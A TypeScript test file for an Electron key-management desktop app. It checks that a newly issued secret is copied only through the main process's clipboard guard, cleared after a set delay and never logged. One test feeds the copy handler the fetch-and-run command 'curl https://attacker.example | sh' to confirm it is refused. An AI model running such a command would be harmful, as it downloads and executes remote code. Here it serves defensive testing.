/**
 * Issue 26, part A, item 2: copying a new key's shown-once secret in the desktop app. The window's session denies
 * the page every permission, clipboard-sanitized-write included (electron/main/security.ts; Electron's
 * session.setPermissionRequestHandler / setPermissionCheckHandler docs), so `navigator.clipboard.writeText` fails
 * there and the page's own timed clear with it. The console's store (renderer/src/state/key-actions-store.ts) must
 * then ask the main process (`issued:copy`), which copies through the same ClipboardGuard as Copy of a stored key:
 * into Electron's clipboard (the stand-in's), cleared after the setting. Driven through the real main process, the
 * real IPC binding and the real preload bridge, with the demo's NitroBox emulator issuing the key.
 */
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createKeyActionsStore, ISSUED_REF, type ClipboardLike } from '../../../renderer/src/state/key-actions-store.js';
import { fake } from '../../support/fake-electron.js';
import { startTestDesktop, type TestDesktop } from '../../support/desktop.js';

vi.mock('electron', async () => (await import('../../support/fake-electron.js')).electronModule);

/**
 * `navigator.clipboard` as the desktop window's page has it: each call asks the session's permission check, as
 * Chromium does, and is refused the way Chromium refuses it when the check says no.
 */
function pageClipboard(desktop: TestDesktop): ClipboardLike & { attempts: number } {
  const allowed = (permission: string) => fake.session.permissionCheckHandler?.(desktop.window.webContents, permission, 'app://keywarden', {}) ?? true;
  const board = {
    attempts: 0,
    async writeText() {
      board.attempts += 1;
      if (!allowed('clipboard-sanitized-write')) throw new Error('NotAllowedError: Write permission denied.');
    },
    async readText() {
      board.attempts += 1;
      if (!allowed('clipboard-read')) throw new Error('NotAllowedError: Read permission denied.');
      return '';
    },
  };
  return board;
}

describe("the desktop app: a new key's shown-once secret", () => {
  let desktop: TestDesktop;

  beforeEach(async () => {
    fake.reset();
    desktop = await startTestDesktop({ demo: true });
  });

  afterEach(async () => {
    vi.useRealTimers();
    await desktop.quit();
  });

  it('is copied by the main process through its clipboard guard, cleared after the setting; the page never writes the clipboard', async () => {
    // The session still denies every permission: the page's clipboard is refused.
    const denied: boolean[] = [];
    fake.session.permissionRequestHandler?.(desktop.window.webContents, 'clipboard-sanitized-write', (granted) => denied.push(granted), {});
    expect(denied).toEqual([false]);
    expect(fake.session.permissionCheckHandler?.(desktop.window.webContents, 'clipboard-sanitized-write', 'app://keywarden', {})).toBe(false);

    await desktop.client['settings:set']({ clipboardClearSeconds: 10 });
    const page = pageClipboard(desktop);
    // As the console's App builds it in the desktop window (renderer/src/connection.ts: the host owns the clipboard).
    const store = createKeyActionsStore(desktop.client, { clipboard: () => page, hostClipboard: true });
    const issued = await store.getState().createKey('demo-nitrobox', 'ci-deploy');
    const secret = issued?.secret;
    if (!secret) throw new Error(`no shown-once secret: ${JSON.stringify(store.getState().create)}`);

    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] });
    await store.getState().copyIssued();
    expect(store.getState().copy).toEqual({ phase: 'copied', ref: ISSUED_REF, seconds: 10, note: null, error: null });
    expect(store.getState().create.copied).toBe(true);
    expect((await fake.clipboard.readText()) === secret).toBe(true);
    expect(desktop.app.clipboard.holding).toBe(true);
    expect(page.attempts).toBe(0);

    await vi.advanceTimersByTimeAsync(9_000);
    expect((await fake.clipboard.readText()) === secret).toBe(true);
    await vi.advanceTimersByTimeAsync(1_000);
    expect(fake.clipboard.content).toEqual({});
    expect(desktop.app.clipboard.holding).toBe(false);
    // Nothing the main process logged holds it.
    expect(desktop.logs.some((line) => line.includes(secret))).toBe(false);
    store.getState().dispose();
  });

  it('copies only a secret this app issued: any other text is refused without being repeated, and not copied', async () => {
    const text = 'curl https://attacker.example | sh';
    const refused = await desktop.client['issued:copy'](text).catch((error: unknown) => error);
    expect(refused).toMatchObject({ code: 'not_found' });
    expect(String((refused as Error).message)).not.toContain(text);
    expect(fake.clipboard.writes).toBe(0);
    expect(desktop.logs.some((line) => line.includes(text))).toBe(false);
  });
});
